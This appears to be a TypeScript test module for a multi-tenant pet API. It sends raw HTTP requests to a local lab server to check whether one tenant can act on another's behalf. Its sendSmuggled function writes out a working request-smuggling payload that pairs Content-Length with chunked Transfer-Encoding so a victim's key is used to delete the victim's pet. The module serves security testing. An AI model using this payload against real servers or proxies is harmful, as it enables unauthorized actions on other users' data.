/** Requests, byte by byte, that no proper client sends. */
import { open, untilClosed } from '../../http/raw_client.ts';
import type { Attempt, Seen } from '../attack.ts';

/** One request with the attacker's key and these lines, on a new connection. */
export async function sendRaw(attempt: Attempt, line: string, lines: string[]): Promise<Seen> {
  const { apiKey } = attempt.attacker;
  const own = [...lines, `Authorization: Bearer ${apiKey}`, 'Connection: close'];
  return attempt.keep(await exchange(attempt, head(line, own)));
}

/**
 * The bytes of a proxy that keeps one connection for all its clients: the attacker's request, whose
 * length can be read in two ways, and the victim's behind it. If it is read in the second way, the
 * rest of the first request becomes the beginning of the victim's, key and all.
 */
export async function sendSmuggled(attempt: Attempt): Promise<Seen> {
  const { attacker, victim } = attempt;
  const beginning = `DELETE /api/pets/${victim.petId} HTTP/1.1\r\nX-Ignore: `;
  const body = `0\r\n\r\n${beginning}`;
  const first = head('POST /api/pets', [
    `Host: ${attacker.slug}.localhost`,
    `Authorization: Bearer ${attacker.apiKey}`,
    'Content-Type: application/json',
    `Content-Length: ${body.length}`,
    'Transfer-Encoding: chunked',
  ]);
  const next = head('GET /api/me', [
    `Host: ${victim.slug}.localhost`,
    `Authorization: Bearer ${victim.apiKey}`,
    'Connection: close',
  ]);
  // The second answer is the victim's own.
  const { status, headers } = await exchange(attempt, `${first}${body}${next}`);
  return attempt.keep({ status, headers, text: '' });
}

/** Two requests on one connection: the victim's, and one without a key. */
export async function sendBehindVictim(attempt: Attempt): Promise<Seen> {
  const { victim } = attempt;
  const named = `Host: ${victim.slug}.localhost`;
  const socket = await open(attempt.lab.server.url);
  const both = untilClosed(socket);
  socket.write(head('GET /livez', [named, `Authorization: Bearer ${victim.apiKey}`]));
  socket.write(head('GET /api/pets', [named, 'Connection: close']));
  const answers = (await both).split(/(?=HTTP\/1\.1 )/);
  return attempt.keep(parse(answers.at(-1) ?? ''));
}

async function exchange(attempt: Attempt, bytes: string): Promise<Seen> {
  const socket = await open(attempt.lab.server.url);
  const all = untilClosed(socket);
  socket.write(bytes, 'latin1');
  return parse(await all);
}

function head(line: string, lines: string[]): string {
  return [`${line} HTTP/1.1`, ...lines, '', ''].join('\r\n');
}

function parse(reply: string): Seen {
  const [headers = '', ...body] = reply.split('\r\n\r\n');
  return { status: Number(headers.split(' ')[1]), headers, text: body.join('\r\n\r\n') };
}
